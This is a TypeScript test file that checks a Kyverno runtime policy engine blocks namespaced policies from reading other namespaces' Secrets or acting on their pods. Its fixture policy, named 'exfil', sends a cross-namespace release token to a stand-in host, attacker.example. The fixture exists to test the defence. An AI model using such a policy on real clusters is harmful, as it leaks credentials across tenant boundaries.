/**
 * A namespaced RuntimePolicy naming another namespace's Secret in its webhook action: refused at load
 * (file:line:col on the namespace), and refused again when the action runs (a verdict that reached the
 * executor anyway), so the Secret's token never reaches the author's URL.
 */
import assert from 'node:assert/strict';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { after, before, describe, it } from 'node:test';
import { ActionExecutor } from '../../src/actions/executor.js';
import { WebhookDestinations } from '../../src/actions/webhook-destination.js';
import { PodCache } from '../../src/k8s/pod-cache.js';
import { registry } from '../../src/observability/metrics.js';
import { loadPolicyText } from '../../src/policy/index.js';
import type { FakeApiServer } from '../integration/k8s/fake-apiserver/server.js';
import { seedPod, startCluster, verdictFor, waitFor } from '../integration/k8s/helpers.js';

const policy = (secretNamespace: string | undefined): string => `apiVersion: runtime.kyverno.io/v1alpha1
kind: RuntimePolicy
metadata:
  name: exfil
  namespace: team-a
spec:
  failureAction: Enforce
  rules:
    - name: any-exec
      match: {any: [{resources: {kinds: [Pod]}}]}
      restrict:
        behaviors: [process-exec]
        pattern: {event: {process: {binary: "*"}}}
        actions:
          - webhook:
              url: https://attacker.example/collect
              secretRef:
                name: release-token
${secretNamespace !== undefined ? `                namespace: ${secretNamespace}\n` : ''}`;

async function refusedCount(reason: string): Promise<number> {
  const m = await registry.getSingleMetric('kyverno_runtime_webhook_refused_total')!.get();
  return m.values.find((v) => v.labels.reason === reason)?.value ?? 0;
}

describe('namespaced policies and Secrets of other namespaces', () => {
  it('rejects the policy at load, pointing at secretRef.namespace', () => {
    const r = loadPolicyText(policy('kyverno-runtime'), 'team-a/exfil.yaml');
    assert.equal(r.policies.length, 0);
    assert.equal(r.errors.length, 1);
    const e = r.errors[0]!;
    assert.equal(`${e.file}:${e.line}:${e.col}`, 'team-a/exfil.yaml:19:28');
    assert.match(
      e.message,
      /namespace team-a may only use Secrets of its own namespace, not kyverno-runtime/,
    );
  });

  it('accepts its own namespace, named or implied', () => {
    assert.deepEqual(loadPolicyText(policy('team-a'), 'a.yaml').errors, []);
    assert.deepEqual(loadPolicyText(policy(undefined), 'b.yaml').errors, []);
  });

  describe('at run time', () => {
    let server: FakeApiServer;
    let cache: PodCache;
    let hook: Server;
    let port = 0;
    const received: (string | undefined)[] = [];

    before(async () => {
      server = await startCluster(['team-a', 'kyverno-runtime']);
      for (const [ns, token] of [
        ['kyverno-runtime', 'release-secret'],
        ['team-a', 'team-a-secret'],
      ] as const)
        server.seed({
          apiVersion: 'v1',
          kind: 'Secret',
          metadata: { name: 'release-token', namespace: ns },
          data: { token: Buffer.from(token).toString('base64') },
        });
      cache = new PodCache({ kubeConfig: server.kubeConfig() });
      await cache.start(5000);
      hook = createServer((req: IncomingMessage, res) => {
        received.push(req.headers.authorization);
        req.resume();
        res.end('ok');
      });
      await new Promise<void>((r) => hook.listen(0, '127.0.0.1', r));
      port = (hook.address() as { port: number }).port;
    });
    after(async () => {
      hook.close();
      await cache.stop();
      await server.close();
    });

    function executor(): ActionExecutor {
      return new ActionExecutor({
        kubeConfig: server.kubeConfig(),
        lookup: cache,
        allowInsecureWebhooks: true,
        webhookDestinations: new WebhookDestinations([`http://127.0.0.1:${port}/`]),
        namespace: 'kyverno-runtime',
      });
    }

    it('refuses a verdict of a team-a policy that names the release namespace Secret', async () => {
      const pod = seedPod(server, 'victim', { namespace: 'team-a' });
      await waitFor(() => cache.byName('team-a', 'victim') !== undefined);
      const before = await refusedCount('cross-namespace-secret');
      const [out] = await executor().execute(
        verdictFor(
          pod,
          [
            {
              webhook: {
                url: `http://127.0.0.1:${port}/collect`,
                secretRef: { name: 'release-token', namespace: 'kyverno-runtime' },
              },
            },
          ],
          { policyNamespace: 'team-a', policy: 'exfil' },
        ),
      );
      assert.equal(out!.outcome, 'failed');
      assert.match(out!.detail ?? '', /may not read Secrets of namespace kyverno-runtime/);
      assert.deepEqual(received, [], 'nothing was sent');
      assert.equal(await refusedCount('cross-namespace-secret'), before + 1);
      assert.equal(server.requestsMatching('GET', '/namespaces/kyverno-runtime/secrets').length, 0);
    });

    it('reads a namespaced policy’s Secret from its own namespace, never the release namespace', async () => {
      const pod = seedPod(server, 'own', { namespace: 'team-a' });
      await waitFor(() => cache.byName('team-a', 'own') !== undefined);
      const [out] = await executor().execute(
        verdictFor(
          pod,
          [{ webhook: { url: `http://127.0.0.1:${port}/collect`, secretRef: { name: 'release-token' } } }],
          { policyNamespace: 'team-a', policy: 'own-hook' },
        ),
      );
      assert.equal(out!.outcome, 'succeeded', out!.detail);
      assert.deepEqual(received, ['Bearer team-a-secret']);
    });

    it('does not let a namespaced policy act on a pod of another namespace', async () => {
      const pod = seedPod(server, 'elsewhere', { namespace: 'kyverno-runtime' });
      await waitFor(() => cache.byName('kyverno-runtime', 'elsewhere') !== undefined);
      const [out] = await executor().execute(
        verdictFor(pod, [{ deletePod: {} }], { policyNamespace: 'team-a', policy: 'reach' }),
      );
      assert.equal(out!.outcome, 'skipped');
      assert.equal(server.requestsMatching('DELETE', '/pods/elsewhere').length, 0);
    });
  });
});
